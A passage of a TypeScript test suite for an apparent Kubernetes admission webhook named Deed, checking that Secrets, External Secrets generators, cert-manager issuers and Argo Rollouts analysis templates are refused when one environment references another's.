    refused(review({ group: 'argoproj.io', version: 'v1alpha1', resource: 'analysistemplates', kind: 'AnalysisTemplate' }, RUNNER_B, datadog('alpha-tls')), 'reference.cross-environment', /spec\.metrics\[0\]\.provider\.datadog\.secretRef\.name: names Secret alpha-tls, which belongs to another environment/);
    admitted(review({ group: 'argoproj.io', version: 'v1alpha1', resource: 'analysistemplates', kind: 'AnalysisTemplate' }, RUNNER_B, datadog('beta-tls')));
  });

  test("beta's PushSecret may not push what alpha's generator makes; its own generator's it may", () => {
    const push = (generator: string) => ({ spec: { secretStoreRefs: [{ name: 'beta-vault', kind: 'SecretStore' }], selector: { generatorRef: { apiVersion: 'generators.external-secrets.io/v1alpha1', kind: 'ECRAuthorizationToken', name: generator } }, data: [{ match: { secretKey: 'password', remoteRef: { remoteKey: 'pushed' } } }] } });
    refused(review(PUSH_SECRETS, RUNNER_B, push('alpha-ecr')), 'reference.cross-environment', /spec\.selector\.generatorRef: names ECRAuthorizationToken alpha-ecr, which belongs to another environment \(the External Secrets operator runs the generator, with the credentials it names, and pushes what it generates/);
    admitted(review(PUSH_SECRETS, RUNNER_B, push('beta-ecr')));
  });

  test("beta's Certificate may not encrypt its keystore with alpha's password Secret; with its own, or a literal password, it may", () => {
    const keystore = (store: 'jks' | 'pkcs12', ref: Record<string, unknown>) => ({ spec: { secretName: 'new-tls', issuerRef: { name: 'ca', kind: 'ClusterIssuer' }, keystores: { [store]: { create: true, ...ref } } } });
    refused(review(CERTIFICATES, RUNNER_B, keystore('pkcs12', { passwordSecretRef: { name: 'alpha-tls', key: 'password' } })), 'reference.cross-environment', /spec\.keystores\.pkcs12\.passwordSecretRef\.name: names Secret alpha-tls, which belongs to another environment \(cert-manager encrypts the keystore/);
    refused(review(CERTIFICATES, RUNNER_B, keystore('jks', { passwordSecretRef: { name: 'alpha-tls', key: 'password' } })), 'reference.cross-environment', /spec\.keystores\.jks\.passwordSecretRef\.name: names Secret alpha-tls/);
    admitted(review(CERTIFICATES, RUNNER_B, keystore('jks', { passwordSecretRef: { name: 'beta-tls', key: 'password' } })));
    admitted(review(CERTIFICATES, RUNNER_B, keystore('pkcs12', { password: 'changeit' })));
  });
});

describe("an ExternalSecret runs only its writer environment's generators, and a generator authenticates only with its credentials", () => {
  const generated = (generatorRef: Record<string, unknown>, at: 'dataFrom' | 'data' = 'dataFrom') => ({
    spec: { refreshInterval: '1h', target: { name: 'new-tls' }, [at]: [{ ...(at === 'data' ? { secretKey: 'token', remoteRef: { key: 'x' } } : {}), sourceRef: { generatorRef: { apiVersion: 'generators.external-secrets.io/v1alpha1', ...generatorRef } } }] },
  });

  test("beta's ExternalSecret may not run alpha's generator (alpha's cloud credentials would make beta's token); its own, and a Password generator not made yet, are admitted; a ClusterGenerator only in a bound namespace; a generator kind Deed does not read is the platform's to name", () => {
    refused(review(EXTERNAL_SECRETS, RUNNER_B, generated({ kind: 'ECRAuthorizationToken', name: 'alpha-ecr' })), 'reference.cross-environment', /spec\.dataFrom\[0\]\.sourceRef\.generatorRef: names ECRAuthorizationToken alpha-ecr, which belongs to another environment \(the External Secrets operator runs the generator, with the credentials it names/);
    refused(review(EXTERNAL_SECRETS, RUNNER_B, generated({ kind: 'ECRAuthorizationToken', name: 'alpha-ecr' }, 'data')), 'reference.cross-environment', /spec\.data\[0\]\.sourceRef\.generatorRef: names ECRAuthorizationToken alpha-ecr/);
    admitted(review(EXTERNAL_SECRETS, RUNNER_B, generated({ kind: 'ECRAuthorizationToken', name: 'beta-ecr' })));
    // A Password generator holds no credentials: not read, and a chart may create it after the ExternalSecret.
    const lookup = lookupOf(CLUSTER);
    admitted(review(EXTERNAL_SECRETS, RUNNER_B, generated({ kind: 'Password', name: 'not-made-yet' })), lookup);
    assert.deepEqual([...lookup.reads].filter((k) => k.startsWith('passwords/') || k.startsWith('clustergenerators/')), []);
    // A ClusterGenerator's credentials are read in the ExternalSecret's namespace: in a shared one, possibly alpha's.
    refused(review(EXTERNAL_SECRETS, RUNNER_B, generated({ kind: 'ClusterGenerator', name: 'registry' })), 'reference.unknown', /spec\.dataFrom\[0\]\.sourceRef\.generatorRef: names ClusterGenerator registry, cluster-scoped, whose Secrets are read by name in namespace shared, where one may be another environment's/);
    refused(review(EXTERNAL_SECRETS, NONE, generated({ kind: 'ClusterGenerator', name: 'registry' })), 'reference.unknown', /names ClusterGenerator registry, cluster-scoped/);
    const bound = review(EXTERNAL_SECRETS, RUNNER_A, generated({ kind: 'ClusterGenerator', name: 'registry' }));
    bound.request.namespace = 'sandbox-a';
    bound.request.object!.metadata.namespace = 'sandbox-a';
    assert.ok(!(answer('validate', bound).status?.message ?? '').includes('ClusterGenerator'), 'in its bound namespace its Secrets are its own');
    refused(review(EXTERNAL_SECRETS, RUNNER_B, generated({ kind: 'BeyondtrustWorkloadCredentialsDynamicSecret', name: 'beta-bt' })), 'reference.unknown', /names BeyondtrustWorkloadCredentialsDynamicSecret beta-bt \(generators\.external-secrets\.io\), a kind Deed does not read/);
  });

  test("beta's generator may not authenticate with alpha's Secret; its own credentials are admitted", () => {
    const ecr = (id: string, key: string) => ({ spec: { region: 'eu-west-1', auth: { secretRef: { accessKeyIDSecretRef: { name: id, key: 'id' }, secretAccessKeySecretRef: { name: key, key: 'key' } } } } });
    refused(review(ECR_TOKENS, RUNNER_B, ecr('beta-tls', 'alpha-tls')), 'reference.cross-environment', /spec\.auth\.secretRef\.secretAccessKeySecretRef\.name: names Secret alpha-tls, which belongs to another environment \(the External Secrets operator generates with the Secret's credentials/);
    admitted(review(ECR_TOKENS, RUNNER_B, ecr('beta-tls', 'beta-tls')));
    const vault = (secret: string) => ({ spec: { path: 'database/creds/app', method: 'GET', provider: { server: 'https://vault.example', auth: { kubernetes: { mountPath: 'kubernetes', role: 'app', secretRef: { name: secret, key: 'token' } } } } } });
    refused(review(VAULT_DYNAMIC, RUNNER_B, vault('alpha-tls')), 'reference.cross-environment', /spec\.provider\.auth\.kubernetes\.secretRef\.name: names Secret alpha-tls/);
    admitted(review(VAULT_DYNAMIC, RUNNER_A, vault('alpha-tls')));
    // What goes to the server as it is (an AppRole's role id, an IAM access key id) and the client certificate: in a generator and in a store.
    const sending = (provider: Record<string, unknown>) => ({ spec: { path: 'x', provider: { server: 'https://beta.example', auth: { appRole: { path: 'approle', secretRef: { name: 'beta-tls', key: 'secret' } } }, ...provider } } });
    refused(review(VAULT_DYNAMIC, RUNNER_B, sending({ auth: { appRole: { path: 'approle', roleRef: { name: 'alpha-tls', key: 'password' }, secretRef: { name: 'beta-tls', key: 'secret' } } } })), 'reference.cross-environment', /spec\.provider\.auth\.appRole\.roleRef\.name: names Secret alpha-tls/);
    refused(review(VAULT_DYNAMIC, RUNNER_B, sending({ auth: { iam: { secretRef: { accessKeyIDSecretRef: { name: 'alpha-tls', key: 'password' } } } } })), 'reference.cross-environment', /spec\.provider\.auth\.iam\.secretRef\.accessKeyIDSecretRef\.name: names Secret alpha-tls/);
    refused(review(VAULT_DYNAMIC, RUNNER_B, sending({ tls: { certSecretRef: { name: 'alpha-tls', key: 'tls.crt' } } })), 'reference.cross-environment', /spec\.provider\.tls\.certSecretRef\.name: names Secret alpha-tls/);
    refused(review(SECRET_STORES, RUNNER_B, { spec: { provider: { vault: { server: 'https://beta.example', auth: { appRole: { path: 'approle', roleRef: { name: 'alpha-tls', key: 'password' }, secretRef: { name: 'beta-tls', key: 's' } } } } } } }), 'reference.cross-environment', /spec\.provider\.vault\.auth\.appRole\.roleRef\.name: names Secret alpha-tls/);
  });
});

describe("a Rollout's or an Experiment's analysis runs only its writer environment's analysis templates", () => {
  const canary = (templates: unknown[]) => ({ spec: { replicas: 1, workloadRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'beta-web' }, strategy: { canary: { steps: [{ setWeight: 20 }, { analysis: { templates, args: [{ name: 'url', value: 'https://beta.example/collect' }] } }] } } } });
  const EXPERIMENTS: Gvr = { group: 'argoproj.io', version: 'v1alpha1', resource: 'experiments', kind: 'Experiment' };
  const ANALYSIS_TEMPLATES: Gvr = { group: 'argoproj.io', version: 'v1alpha1', resource: 'analysistemplates', kind: 'AnalysisTemplate' };

  test("beta's Rollout may not run alpha's AnalysisTemplate (with beta's arguments, over alpha's Secrets); its own and the platform's are admitted, a ClusterAnalysisTemplate only in a bound namespace", () => {
    refused(review(ROLLOUTS, RUNNER_B, canary([{ templateName: 'alpha-check' }])), 'reference.cross-environment', /spec\.strategy\.canary\.steps\[1\]\.analysis\.templates\[0\]: names AnalysisTemplate alpha-check, which belongs to another environment \(the Argo Rollouts controller runs the template's metrics for the referrer/);
    const blueGreen = { spec: { replicas: 1, workloadRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'beta-web' }, strategy: { blueGreen: { activeService: 'beta-svc', prePromotionAnalysis: { templates: [{ templateName: 'alpha-check' }] } } } } };
    refused(review(ROLLOUTS, RUNNER_B, blueGreen), 'reference.cross-environment', /spec\.strategy\.blueGreen\.prePromotionAnalysis\.templates\[0\]: names AnalysisTemplate alpha-check/);
    refused(review(EXPERIMENTS, RUNNER_B, { spec: { templates: [], analyses: [{ name: 'a', templateName: 'alpha-check' }] } }), 'reference.cross-environment', /spec\.analyses\[0\]: names AnalysisTemplate alpha-check/);
    admitted(review(ROLLOUTS, RUNNER_B, canary([{ templateName: 'beta-check' }, { templateName: 'platform-check' }])));
    // A ClusterAnalysisTemplate's argument Secrets are read in the AnalysisRun's namespace: in a shared one, possibly alpha's.
    refused(review(ROLLOUTS, RUNNER_B, canary([{ templateName: 'global-check', clusterScope: true }])), 'reference.unknown', /names ClusterAnalysisTemplate global-check, cluster-scoped, whose Secrets are read by name in namespace shared/);
  });

  test("beta's AnalysisTemplate may not hand alpha's Secret to its metrics", () => {
    const web = (secret: string) => ({ spec: { args: [{ name: 'token', valueFrom: { secretKeyRef: { name: secret, key: 'token' } } }], metrics: [{ name: 'probe', provider: { web: { url: 'https://beta.example/?t={{args.token}}' } } }] } });
    refused(review(ANALYSIS_TEMPLATES, RUNNER_B, web('alpha-tls')), 'reference.cross-environment', /spec\.args\[0\]\.valueFrom\.secretKeyRef\.name: names Secret alpha-tls, which belongs to another environment \(the Argo Rollouts controller reads the Secret's key and hands it to the analysis's metrics/);
    admitted(review(ANALYSIS_TEMPLATES, RUNNER_B, web('beta-tls')));
  });
});

describe("what an operator writes into, and what a selector chooses for it", () => {
  test("a Certificate, an ExternalSecret or an ACME account key may not have its operator write over an unstamped Secret outside a bound namespace; one not there yet, or one in its own bound namespace, may", () => {
    const certificate = (secretName: string) => ({ spec: { secretName, dnsNames: ['beta.example.com'], issuerRef: { name: 'beta-ca' } } });
    for (const who of [RUNNER_B, NONE])
      refused(review(CERTIFICATES, who, certificate('operator-made')), 'reference.cross-environment', /spec\.secretName: names Secret operator-made, which carries no stamps: the platform's, or what an operator made for an environment \(cert-manager writes the issued certificate and private key into the Secret/);
    refused(review(EXTERNAL_SECRETS, RUNNER_B, { spec: { secretStoreRef: { name: 'beta-vault' }, target: { name: 'operator-made', creationPolicy: 'Merge' } } }), 'reference.cross-environment', /spec\.target\.name: names Secret operator-made, which carries no stamps/);
    refused(review(ISSUERS, RUNNER_B, { spec: { acme: { server: 'https://acme.example/directory', privateKeySecretRef: { name: 'operator-made' } } } }), 'reference.cross-environment', /spec\.acme\.privateKeySecretRef\.name: names Secret operator-made, which carries no stamps/);
    admitted(review(CERTIFICATES, RUNNER_B, certificate('new-tls')));
    admitted(review(CERTIFICATES, ARGO, certificate('operator-made')));
    // In alpha's bound namespace an unstamped Secret is alpha's.
    admitted(review(CERTIFICATES, RUNNER_A, { spec: { secretName: 'alpha-plain-tls', issuerRef: { name: 'ca', kind: 'ClusterIssuer' } } }, { namespace: 'sandbox-a' }));
  });

  test("an ExternalSecret that merges into its target names one that exists: whoever created one under that name later would have its Secret merged into", () => {
    const merging = (target: string, creationPolicy: string) => ({ spec: { secretStoreRef: { name: 'beta-vault' }, target: { name: target, creationPolicy }, data: [{ secretKey: 'k', remoteRef: { key: 'k' } }] } });
    refused(review(EXTERNAL_SECRETS, RUNNER_B, merging('db-creds', 'Merge')), 'reference.absent', /spec\.target\.name: names Secret db-creds, which does not exist; create it first/);
    admitted(review(EXTERNAL_SECRETS, RUNNER_B, merging('db-creds', 'Owner')));
    admitted(review(EXTERNAL_SECRETS, RUNNER_B, merging('beta-tls', 'Merge')));
    // An UPDATE that turns an Owner target into a merged one is judged again.
    refused(review(EXTERNAL_SECRETS, RUNNER_B, merging('db-creds', 'Merge'), { operation: 'UPDATE', old: merging('db-creds', 'Owner') }), 'reference.absent', /names Secret db-creds, which does not exist/);
  });

  test("an ExternalSecret without a target name writes the Secret named as itself: that one is judged", () => {
    const named = (name: string, target?: Record<string, unknown>) => ({ metadata: { name }, spec: { secretStoreRef: { name: 'beta-vault' }, ...(target !== undefined ? { target } : {}), data: [{ secretKey: 'k', remoteRef: { key: 'k' } }] } });
    for (const target of [undefined, {}, { name: '' }, { creationPolicy: 'Merge' }])
      refused(review(EXTERNAL_SECRETS, RUNNER_B, named('alpha-tls', target)), 'reference.cross-environment', /spec\.target\.name: names Secret alpha-tls, which belongs to another environment \(the External Secrets operator writes what it fetches into the Secret \(without target\.name, the one named as the ExternalSecret\)\)/);
    admitted(review(EXTERNAL_SECRETS, RUNNER_B, named('db-creds')));
    admitted(review(EXTERNAL_SECRETS, RUNNER_B, named('alpha-tls', { name: 'db-creds' })));
  });

  test("a PushSecret's stores and Secrets are named, not chosen by label, but by the platform; its dataTo stores are judged", () => {
    const push = (spec: Record<string, unknown>) => ({ spec: { secretStoreRefs: [{ name: 'beta-vault' }], selector: { secret: { name: 'beta-tls' } }, ...spec } });
    refused(review(PUSH_SECRETS, RUNNER_B, push({ secretStoreRefs: [{ labelSelector: { matchLabels: { 'deed.dev/environment': 'alpha' } } }] })), 'reference.unknown', /spec\.secretStoreRefs\[0\]\.labelSelector: chooses SecretStores by label, so whose each one is cannot be known/);
    refused(review(PUSH_SECRETS, NONE, push({ selector: { secret: { selector: { matchLabels: { app: 'alpha' } } } } })), 'reference.unknown', /spec\.selector\.secret\.selector: chooses Secrets by label/);
    refused(review(PUSH_SECRETS, RUNNER_B, push({ dataTo: [{ storeRef: { name: 'alpha-vault' } }] })), 'reference.cross-environment', /spec\.dataTo\[0\]\.storeRef: names SecretStore alpha-vault, which belongs to another environment/);
    admitted(review(PUSH_SECRETS, RUNNER_B, push({ dataTo: [{ storeRef: { name: 'beta-vault' } }] })));
    admitted(review(PUSH_SECRETS, ARGO, push({ secretStoreRefs: [{ labelSelector: { matchLabels: { team: 'x' } } }] })));
    // A selector changed by an UPDATE is judged again.
    const stored = push({ selector: { secret: { selector: { matchLabels: { app: 'beta' } } } } });
    refused(review(PUSH_SECRETS, RUNNER_B, push({ selector: { secret: { selector: { matchLabels: { app: 'alpha' } } } } }), { operation: 'UPDATE', old: stored }), 'reference.unknown', /chooses Secrets by label/);
  });
});

describe("an environment's change of an unstamped object is judged on the references it keeps", () => {
  const externalSecret = (store: string, target: string, metadata: Record<string, unknown> = {}) => ({ metadata, spec: { secretStoreRef: { name: store }, target: { name: target, creationPolicy: 'Merge' }, data: [{ secretKey: 'k', remoteRef: { key: 'k' } }] } });
  const certificate = (issuer: string, secretName: string, metadata: Record<string, unknown> = {}) => ({ metadata, spec: { secretName, dnsNames: ['web.example.com'], issuerRef: { name: issuer } } });

  test("beta may not move the platform's ExternalSecret into alpha's Secret onto its own store, nor alpha the platform's Certificate onto its own Issuer", () => {
    // The platform's (unstamped): it fetches with the platform's store into alpha's Secret, or issues into the platform's Secret.
    const platformEs = externalSecret('platform-vault', 'alpha-tls');
    refused(review(EXTERNAL_SECRETS, RUNNER_B, externalSecret('beta-vault', 'alpha-tls'), { operation: 'UPDATE', old: platformEs }), 'reference.cross-environment', /spec\.target\.name: names Secret alpha-tls, which belongs to another environment .*shared\/obj carries no stamps \(the platform's, or of no environment\), and its follower would act on what it names with what system:serviceaccount:sandbox-b:runner changes: create your own/);
    refused(review(CERTIFICATES, RUNNER_A, certificate('alpha-ca', 'operator-made'), { operation: 'UPDATE', old: certificate('platform-ca', 'operator-made') }), 'reference.cross-environment', /spec\.secretName: names Secret operator-made, which carries no stamps.*create your own/);
  });

  test("a principal of no environment may not either; it may still change its own unstamped Certificate whose unstamped Secret cert-manager writes", () => {
    refused(review(EXTERNAL_SECRETS, NONE, externalSecret('beta-vault', 'alpha-tls'), { operation: 'UPDATE', old: externalSecret('platform-vault', 'alpha-tls') }), 'reference.cross-environment', /spec\.target\.name: names Secret alpha-tls, which belongs to another environment.*carries no stamps/);
    admitted(review(CERTIFICATES, NONE, { spec: { ...certificate('platform-ca', 'operator-made').spec, duration: '24h' } }, { operation: 'UPDATE', old: certificate('platform-ca', 'operator-made') }));
    // A kept reference to what does not exist (an Ingress whose Service was deleted) is not this change's to refuse.
    admitted(review(INGRESS, NONE, { spec: { ...ingress('gone-svc').spec, ingressClassName: 'shared' } }, { operation: 'UPDATE', old: ingress('gone-svc') }), lookupOf({ ...CLUSTER, 'services/shared/gone-svc': null }));
  });

  test("an environment's change of its own stamped object, a change of metadata alone and one in a bound namespace judge only what they change", () => {
    const betaEs = externalSecret('beta-vault', 'beta-tls', owned('ExternalSecret', 'beta').metadata);
    admitted(review(EXTERNAL_SECRETS, RUNNER_B, { ...betaEs, spec: { ...betaEs.spec, refreshInterval: '5m' } }, { operation: 'UPDATE', old: betaEs }));
    // The platform's ExternalSecret into alpha's Secret, labelled by a principal of no environment: nothing its operator follows changes
    // (an environment may not change the platform's object at all: guard.shared-input).
    admitted(review(EXTERNAL_SECRETS, NONE, externalSecret('platform-vault', 'alpha-tls', { labels: { team: 'web' } }), { operation: 'UPDATE', old: externalSecret('platform-vault', 'alpha-tls') }));
    admitted(review(CERTIFICATES, RUNNER_A, { spec: { secretName: 'alpha-plain-tls', issuerRef: { name: 'ca', kind: 'ClusterIssuer' }, duration: '24h' } }, { namespace: 'sandbox-a', operation: 'UPDATE', old: { spec: { secretName: 'alpha-plain-tls', issuerRef: { name: 'ca', kind: 'ClusterIssuer' } } } }));
  });

  test("the ingress-shim annotations beside a kept issuer annotation shape what it signs: changing them on the platform's Ingress is judged on the kept issuer", () => {
    const shimmed = (more: Record<string, string>) => ({ metadata: { annotations: { 'cert-manager.io/issuer': 'alpha-ca', ...more } }, spec: { tls: [{ hosts: ['web.example.com'], secretName: 'new-tls' }], rules: [{ host: 'web.example.com' }] } });
    // review() gives the old object the new one's metadata: the old annotations are the platform's here.
    const body = review(INGRESS, NONE, shimmed({ 'cert-manager.io/common-name': 'alpha-db.internal', 'cert-manager.io/usages': 'client auth' }), { operation: 'UPDATE' });
    body.request.oldObject = { ...body.request.object, metadata: { ...body.request.object.metadata, annotations: { 'cert-manager.io/issuer': 'alpha-ca' } } };
    refused(body, 'reference.cross-environment', /metadata\.annotations\["cert-manager\.io\/issuer"\]: names Issuer alpha-ca, which belongs to another environment.*carries no stamps/);
    const labelled = review(INGRESS, NONE, shimmed({}), { operation: 'UPDATE' });
    labelled.request.oldObject = { ...labelled.request.object, metadata: { ...labelled.request.object.metadata, labels: { team: 'web' } } };
    admitted(labelled);
  });
});

describe("a cert-manager Certificate, CertificateRequest or issuer annotation names only what its writer environment may use", () => {
  const CERT_MANAGER_SA: UserInfo = { username: 'system:serviceaccount:cert-manager:cert-manager', groups: ['system:serviceaccounts', 'system:authenticated'], extra: {} };
  /** A Certificate for beta's host, signed by this issuerRef (`{name}` alone: an Issuer, as defaulted), into `secretName`. */
  const certificate = (issuerRef: Record<string, unknown>, secretName = 'new-tls') => ({ spec: { secretName, dnsNames: ['beta.example.com'], issuerRef } });
  const request = (issuerRef: Record<string, unknown>) => ({ spec: { request: 'LS0tLS1CRUdJTi...', usages: ['server auth'], issuerRef } });
  const annotated = (annotations: Record<string, string>) => ({ metadata: { annotations }, ...ingress('beta-svc') });

  test("beta's Certificate signed by alpha's Issuer is refused at issuerRef, defaulted or explicit; alpha's own, beta's own and the platform's Issuer are admitted", () => {
    refused(review(CERTIFICATES, RUNNER_B, certificate({ name: 'alpha-ca' })), 'reference.cross-environment', /spec\.issuerRef: names Issuer alpha-ca, which belongs to another environment \(cert-manager has the issuer sign the Certificate's key/);
    // cert-manager reads an empty group as its own, and an empty kind as Issuer.
    for (const explicit of [{ kind: 'Issuer', group: 'cert-manager.io' }, { kind: 'Issuer' }, { group: '' }, { kind: '', group: '' }])
      refused(review(CERTIFICATES, RUNNER_B, certificate({ name: 'alpha-ca', ...explicit })), 'reference.cross-environment', /spec\.issuerRef: names Issuer alpha-ca/);
    // An issuerRef has no namespace: cert-manager reads the Issuer in the Certificate's own, whatever the reference holds.
    refused(review(CERTIFICATES, RUNNER_B, certificate({ name: 'alpha-ca', namespace: 'sandbox-b' })), 'reference.cross-environment', /spec\.issuerRef: names Issuer alpha-ca, which belongs/);
    refused(review(CERTIFICATES, NONE, certificate({ name: 'alpha-ca' })), 'reference.cross-environment', /stranger acts for no environment and may not/);
    admitted(review(CERTIFICATES, RUNNER_A, certificate({ name: 'alpha-ca' })));
    admitted(review(CERTIFICATES, RUNNER_B, certificate({ name: 'beta-ca', kind: 'Issuer', group: 'cert-manager.io' })));
    // A tenant of no environment on the platform's unstamped Issuer; the platform's writes are not judged.
    admitted(review(CERTIFICATES, NONE, certificate({ name: 'platform-ca' })));
    admitted(review(CERTIFICATES, ARGO, certificate({ name: 'alpha-ca' })));
  });

  test("beta's CertificateRequest to alpha's Issuer is refused (cert-manager's approver approves every request); alpha's is admitted", () => {
    refused(review(CERTIFICATE_REQUESTS, RUNNER_B, request({ name: 'alpha-ca' })), 'reference.cross-environment', /spec\.issuerRef: names Issuer alpha-ca, which belongs to another environment \(cert-manager approves the request and has the issuer sign it/);
    admitted(review(CERTIFICATE_REQUESTS, RUNNER_A, request({ name: 'alpha-ca', kind: 'Issuer' })));
    admitted(review(CERTIFICATE_REQUESTS, RUNNER_B, request({ name: 'beta-ca' })));
  });

  test('a ClusterIssuer is the platform\'s: any writer may name one, and nothing is read for it', () => {
    for (const who of [RUNNER_A, RUNNER_B, NONE]) {
      const lookup = lookupOf(CLUSTER);
      admitted(review(CERTIFICATES, who, certificate({ name: 'letsencrypt', kind: 'ClusterIssuer' })), lookup);
      admitted(review(CERTIFICATE_REQUESTS, who, request({ name: 'letsencrypt', kind: 'ClusterIssuer', group: 'cert-manager.io' })), lookup);
      assert.deepEqual([...lookup.reads].filter((k) => k.includes('issuers/')), []);
    }
  });

  test("beta's Certificate may not have cert-manager overwrite alpha's TLS Secret; a Secret that does not exist yet is cert-manager's to make", () => {
    refused(review(CERTIFICATES, RUNNER_B, certificate({ name: 'beta-ca' }, 'alpha-tls')), 'reference.cross-environment', /spec\.secretName: names Secret alpha-tls, which belongs to another environment \(cert-manager writes the issued certificate and private key into the Secret, overwriting what it holds\)/);
    admitted(review(CERTIFICATES, RUNNER_B, certificate({ name: 'beta-ca' }, 'new-tls')));
    admitted(review(CERTIFICATES, RUNNER_B, certificate({ name: 'beta-ca' }, 'beta-tls')));
    admitted(review(CERTIFICATES, RUNNER_A, certificate({ name: 'alpha-ca' }, 'alpha-tls')));
    // One Deed cannot read now is refused (fail closed).
    refused(review(CERTIFICATES, RUNNER_B, certificate({ name: 'beta-ca' }, 'unread-tls')), 'reference.unknown', /cannot tell which environment Secret unread-tls belongs to/);
  });

  test("an Issuer that does not exist is refused but where the writer's environment is bound; one Deed cannot read is refused", () => {
    refused(review(CERTIFICATES, RUNNER_B, certificate({ name: 'gone-ca' })), 'reference.absent', /spec\.issuerRef: names Issuer gone-ca, which does not exist; create it first/);
    admitted(review(CERTIFICATES, RUNNER_A, certificate({ name: 'gone-ca' }, 'alpha-new'), { namespace: 'sandbox-a' }), lookupOf({ ...CLUSTER, 'secrets/sandbox-a/alpha-new': null }));
    refused(review(CERTIFICATES, RUNNER_B, certificate({ name: 'unread-ca' })), 'reference.unknown', /cannot tell which environment Issuer unread-ca belongs to/);
  });

  test("an issuer of a kind Deed does not read (an external issuer's) comes only from the platform's principals", () => {
    const external = certificate({ name: 'pca', kind: 'AWSPCAIssuer', group: 'awspca.cert-manager.io' });
    refused(review(CERTIFICATES, RUNNER_B, external), 'reference.unknown', /spec\.issuerRef: names AWSPCAIssuer pca \(awspca\.cert-manager\.io\), a kind Deed does not read/);
    admitted(review(CERTIFICATES, ARGO, external));
  });

  test("an UPDATE that moves beta's Certificate onto alpha's Issuer or Secret is refused; one that keeps them reads nothing", () => {
    refused(review(CERTIFICATES, RUNNER_B, certificate({ name: 'alpha-ca' }), { operation: 'UPDATE', old: certificate({ name: 'beta-ca' }) }), 'reference.cross-environment', /spec\.issuerRef: names Issuer alpha-ca/);
    refused(review(CERTIFICATES, RUNNER_B, certificate({ name: 'beta-ca' }, 'alpha-tls'), { operation: 'UPDATE', old: certificate({ name: 'beta-ca' }) }), 'reference.cross-environment', /spec\.secretName: names Secret alpha-tls/);
    const lookup = lookupOf({});
    const body = review(CERTIFICATES, RUNNER_B, { spec: { ...certificate({ name: 'beta-ca' }).spec, dnsNames: ['beta2.example.com'] } }, { operation: 'UPDATE', old: certificate({ name: 'beta-ca' }) });
    body.request.oldObject.metadata = { ...body.request.oldObject.metadata, ...owned('Certificate', 'beta').metadata };
    body.request.object.metadata = body.request.oldObject.metadata;
    assert.equal(answer('validate', body, lookup).allowed, true);
    assert.deepEqual([...lookup.reads].filter((k) => k.startsWith('issuers/') || k.startsWith('secrets/')), []);
  });

  test("the ingress-shim's Certificate is cert-manager's, not the Ingress's environment's: the issuer annotation of beta's Ingress or Gateway is judged where beta writes it", () => {
    // What the shim makes, owned by beta's Ingress: judged as cert-manager's own (no environment), not as beta's.
    const shimmed = (issuer: string) => ({ metadata: controlledBy('Ingress', 'beta-web', 'beta-web-uid', 'networking.k8s.io/v1'), ...certificate({ name: issuer, kind: 'Issuer' }, 'beta-web-tls') });
    refused(review(CERTIFICATES, CERT_MANAGER_SA, shimmed('beta-ca')), 'reference.cross-environment', /spec\.issuerRef: names Issuer beta-ca, which belongs to another environment .*cert-manager acts for no environment and may not/);
    // So cert-manager's controller runs as a platform principal, unjudged: the annotation is where the issuer is chosen.
    refused(review(INGRESS, RUNNER_B, annotated({ 'cert-manager.io/issuer': 'alpha-ca' })), 'reference.cross-environment', /metadata\.annotations\["cert-manager\.io\/issuer"\]: names Issuer alpha-ca, which belongs to another environment \(cert-manager's ingress-shim makes a Certificate that the issuer signs/);
    // issuer-kind replaces the kind of either annotation, as the shim reads it (an empty one is an Issuer).
    refused(review(INGRESS, RUNNER_B, annotated({ 'cert-manager.io/cluster-issuer': 'alpha-ca', 'cert-manager.io/issuer-kind': 'Issuer' })), 'reference.cross-environment', /metadata\.annotations\["cert-manager\.io\/cluster-issuer"\]: names Issuer alpha-ca/);
    refused(review(INGRESS, RUNNER_B, annotated({ 'cert-manager.io/cluster-issuer': 'alpha-ca', 'cert-manager.io/issuer-kind': '', 'cert-manager.io/issuer-group': '' })), 'reference.cross-environment', /names Issuer alpha-ca/);
    refused(review(GATEWAYS, RUNNER_B, { metadata: { annotations: { 'cert-manager.io/issuer': 'alpha-ca' } }, ...gateway({ name: 'beta-tls' }) }), 'reference.cross-environment', /metadata\.annotations\["cert-manager\.io\/issuer"\]: names Issuer alpha-ca/);
    admitted(review(INGRESS, RUNNER_B, annotated({ 'cert-manager.io/issuer': 'beta-ca' })));
    admitted(review(INGRESS, RUNNER_B, annotated({ 'cert-manager.io/cluster-issuer': 'letsencrypt' })));
    admitted(review(INGRESS, RUNNER_A, { ...annotated({ 'cert-manager.io/issuer': 'alpha-ca' }), ...ingress('alpha-svc') }));
    admitted(review(GATEWAYS, RUNNER_B, { metadata: { annotations: { 'cert-manager.io/cluster-issuer': 'letsencrypt' } }, ...gateway({ name: 'beta-tls' }) }));
  });

  test('issuerRefs and issuer annotations are found with their defaults and paths; a hostile shape reads as none', () => {
    const refs = (g: Gvr, obj: Record<string, unknown>) => objectReferences(g, { apiVersion: apiVersion(g), kind: g.kind, metadata: {}, ...obj } as KubeObject).map((r) => [r.path, r.group, r.kind, r.namespace ?? '', r.name, r.writes ?? false]);
    assert.deepEqual(refs(CERTIFICATES, certificate({ name: 'ca', namespace: 'elsewhere' }, 'tls')), [
      ['spec.issuerRef', 'cert-manager.io', 'Issuer', '', 'ca', false],
      ['spec.secretName', '', 'Secret', '', 'tls', true],
    ]);
    assert.deepEqual(refs(CERTIFICATE_REQUESTS, request({ name: 'pca', kind: 'AWSPCAClusterIssuer', group: 'awspca.cert-manager.io' })), [['spec.issuerRef', 'awspca.cert-manager.io', 'AWSPCAClusterIssuer', '', 'pca', false]]);
    assert.deepEqual(refs(INGRESS, { metadata: { annotations: { 'cert-manager.io/issuer': 'a', 'cert-manager.io/cluster-issuer': 'b', 'cert-manager.io/issuer-group': 'example.com' } } }), [
      ['metadata.annotations["cert-manager.io/issuer"]', 'example.com', 'Issuer', '', 'a', false],
      ['metadata.annotations["cert-manager.io/cluster-issuer"]', 'example.com', 'ClusterIssuer', '', 'b', false],
    ]);
    for (const spec of [null, 'x', { issuerRef: 'ca' }, { issuerRef: { name: 7 } }, { issuerRef: { name: '' }, secretName: '' }, { issuerRef: null, secretName: 5 }])
      for (const g of [CERTIFICATES, CERTIFICATE_REQUESTS]) assert.deepEqual(refs(g, { spec }), []);
    for (const annotations of [null, 'x', { 'cert-manager.io/issuer': '' }, { 'cert-manager.io/issuer': 7 }, { 'cert-manager.io/issuer-kind': 'Issuer' }]) assert.deepEqual(refs(INGRESS, { metadata: { annotations } }), []);
  });
});

describe("a service account's stamps say whose credential it is", () => {
  const tokenRequest = (userInfo: UserInfo, account: string) =>
